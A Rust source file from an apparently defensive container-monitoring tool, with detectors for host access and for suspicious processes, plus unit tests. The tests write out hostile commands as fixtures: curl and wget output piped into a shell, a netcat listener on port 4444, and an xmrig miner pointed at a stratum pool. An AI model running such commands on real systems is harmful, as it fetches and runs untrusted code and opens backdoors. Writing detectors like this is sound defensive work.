//! The detectors' tests on single facts: pure functions from event fields and rule settings
//! to findings (what was seen, in words, and the details an alert carries).

use jobwatch_proto::v1 as pb;

use super::{
    names::{self, basename, is_within},
    rules::{DownloadParams, HostAccessParams},
};

/// Why a container has host access (empty: none).
pub fn host_access_reasons(s: &pb::SecurityFacts, p: &HostAccessParams) -> Vec<String> {
    let mut out = Vec::new();
    if s.privileged {
        out.push("privileged".to_string());
    }
    if s.host_pid {
        out.push("host PID namespace".to_string());
    }
    if s.host_network {
        out.push("host network namespace".to_string());
    }
    if s.host_ipc {
        out.push("host IPC namespace".to_string());
    }
    for m in &s.host_mounts {
        if sensitive_host_path(&m.source, &p.sensitive_host_paths) {
            out.push(format!(
                "host path {} mounted at {}{}",
                m.source,
                m.destination,
                if m.readonly { " (read-only)" } else { "" }
            ));
        }
    }
    for cap in &s.added_capabilities {
        let norm = normalize_cap(cap);
        if p.dangerous_capabilities
            .iter()
            .any(|d| normalize_cap(d) == norm)
        {
            out.push(format!("capability {norm} added"));
        }
    }
    out
}

fn normalize_cap(c: &str) -> String {
    let up = c.trim().to_ascii_uppercase();
    if up.starts_with("CAP_") {
        up
    } else {
        format!("CAP_{up}")
    }
}

/// A host path is sensitive when it is one of the listed paths, below one (other than `/`),
/// or above one (mounting `/` exposes `/etc`).
pub fn sensitive_host_path(source: &str, listed: &[String]) -> bool {
    let source = if source.len() > 1 {
        source.trim_end_matches('/')
    } else {
        source
    };
    listed.iter().any(|l| {
        let l = if l.len() > 1 {
            l.trim_end_matches('/')
        } else {
            l.as_str()
        };
        source == l || (l != "/" && is_within(source, l)) || is_within(l, source)
    })
}

/// What `download_and_run` found in one exec (kind, in words).
pub fn tooling(
    e: &pb::ProcessExec,
    command: &str,
    p: &DownloadParams,
) -> Option<(&'static str, String)> {
    let args = names::command_args(e);
    let listed = |list: &[String], name: &str| list.iter().any(|x| x == name);
    if listed(&p.shells, command)
        && let Some(script) = inline_script(args)
        && let Some(tool) = pipes_download_into_shell(script, p)
    {
        return Some((
            "download_piped_to_shell",
            format!("{command} runs `{tool}` piped into a shell"),
        ));
    }
    if let Some(flags) = p.inline_interpreters.get(command)
        && let Some(flag) = args.iter().find(|a| flags.iter().any(|f| f == *a))
    {
        return Some((
            "inline_interpreter",
            format!("{command} runs inline code ({flag})"),
        ));
    }
    if listed(&p.netcat_tools, command) {
        return Some(("netcat", format!("{command} started")));
    }
    if listed(&p.miners, command) {
        return Some(("miner", format!("miner {command} started")));
    }
    if let Some(marker) = p
        .miner_arguments
        .iter()
        .find(|m| e.args.iter().any(|a| a.contains(m.as_str())))
    {
        return Some((
            "miner",
            format!("{command} started with miner argument {marker:?}"),
        ));
    }
    None
}

/// The script of `sh -c <script>`.
pub fn inline_script(args: &[String]) -> Option<&str> {
    let i = args
        .iter()
        .position(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('c'))?;
    args.get(i + 1).map(String::as_str)
}

/// `curl ... | sh` in a shell script: the download tool of the first such pipe.
pub fn pipes_download_into_shell(script: &str, p: &DownloadParams) -> Option<String> {
    for line in script.split([';', '\n', '&']) {
        let stages: Vec<&str> = line.split('|').map(str::trim).collect();
        for (i, stage) in stages.iter().enumerate() {
            let tool = first_word(stage);
            if !p.network_tools.iter().any(|t| t == tool) {
                continue;
            }
            let fed = stages[i + 1..].iter().any(|s| {
                let w = first_word(s);
                p.shells.iter().any(|x| x == w) || p.inline_interpreters.contains_key(w)
            });
            if fed {
                return Some(tool.to_string());
            }
        }
    }
    None
}

fn first_word(stage: &str) -> &str {
    // Skip `env`, `sudo`-like prefixes? Only `exec`, which shells use to replace themselves.
    let mut words = stage.split_whitespace();
    let mut w = words.next().unwrap_or("");
    if w == "exec" {
        w = words.next().unwrap_or("");
    }
    basename(w)
}

/// A shell that reads its script from stdin (`sh`, `sh -s`, `bash -`): no script file and no
/// `-c`.
pub fn reads_stdin(args: &[String]) -> bool {
    args.iter().all(|a| a.starts_with('-')) && inline_script(args).is_none()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::rules::{self, Detector};

    fn download_params() -> DownloadParams {
        let set = rules::parse(None).expect("shipped rules");
        set.rules
            .iter()
            .find_map(|r| match &r.detector {
                Detector::DownloadAndRun(p) => Some(p.clone()),
                _ => None,
            })
            .expect("download_and_run")
    }

    fn exec(filename: &str, args: &[&str]) -> pb::ProcessExec {
        pb::ProcessExec {
            filename: filename.into(),
            binary: "/bin/busybox".into(),
            args: args.iter().map(|s| s.to_string()).collect(),
            cwd: "/".into(),
            ..Default::default()
        }
    }

    #[test]
    fn download_pipes_inline_code_netcat_and_miners() {
        let p = download_params();
        let t = |f: &str, a: &[&str]| {
            let e = exec(f, a);
            tooling(&e, &names::command_name(&e), &p).map(|(k, _)| k)
        };
        assert_eq!(
            t("/bin/sh", &["sh", "-c", "wget -q -O- http://x/s.sh | sh"]),
            Some("download_piped_to_shell")
        );
        assert_eq!(
            t(
                "/bin/bash",
                &["bash", "-c", "cd /tmp; curl -fsSL http://x | bash -s --"]
            ),
            Some("download_piped_to_shell")
        );
        assert_eq!(
            t(
                "/bin/sh",
                &["sh", "-c", "wget -O /tmp/a http://x && sh /tmp/a"]
            ),
            None
        );
        assert_eq!(t("/bin/sh", &["sh", "-c", "curl http://x | grep y"]), None);
        assert_eq!(
            t("/usr/bin/python3", &["python3", "-c", "import os"]),
            Some("inline_interpreter")
        );
        assert_eq!(t("/usr/bin/python3", &["python3", "job.py"]), None);
        assert_eq!(t("/bin/nc", &["nc", "-l", "-p", "4444"]), Some("netcat"));
        assert_eq!(t("/opt/xmrig", &["xmrig"]), Some("miner"));
        assert_eq!(
            t("/opt/x", &["x", "-o", "stratum+tcp://pool:3333"]),
            Some("miner")
        );
        assert_eq!(t("/bin/tar", &["tar", "-czf", "/b.tgz", "/data"]), None);
    }

    #[test]
    fn host_access_reasons_name_each_fact() {
        let set = rules::parse(None).expect("shipped rules");
        let p = set
            .rules
            .iter()
            .find_map(|r| match &r.detector {
                Detector::HostAccess(p) => Some(p.clone()),
                _ => None,
            })
            .expect("host_access");
        let s = pb::SecurityFacts {
            privileged: true,
            host_pid: true,
            added_capabilities: vec!["SYS_ADMIN".into(), "CAP_CHOWN".into()],
            host_mounts: vec![
                pb::HostMount {
                    source: "/".into(),
                    destination: "/host".into(),
                    readonly: false,
                },
                pb::HostMount {
                    source: "/data/cache".into(),
                    destination: "/cache".into(),
                    readonly: false,
                },
                pb::HostMount {
                    source: "/etc/cron.d".into(),
                    destination: "/c".into(),
                    readonly: true,
                },
            ],
            ..Default::default()
        };
        assert_eq!(
            host_access_reasons(&s, &p),
            vec![
                "privileged",
                "host PID namespace",
                "host path / mounted at /host",
                "host path /etc/cron.d mounted at /c (read-only)",
                "capability CAP_SYS_ADMIN added",
            ]
        );
        assert!(host_access_reasons(&pb::SecurityFacts::default(), &p).is_empty());
    }

    #[test]
    fn stdin_shells() {
        let v = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        assert!(reads_stdin(&v(&[])));
        assert!(reads_stdin(&v(&["-s"])));
        assert!(!reads_stdin(&v(&["-c", "x"])));
        assert!(!reads_stdin(&v(&["script.sh"])));
    }
}
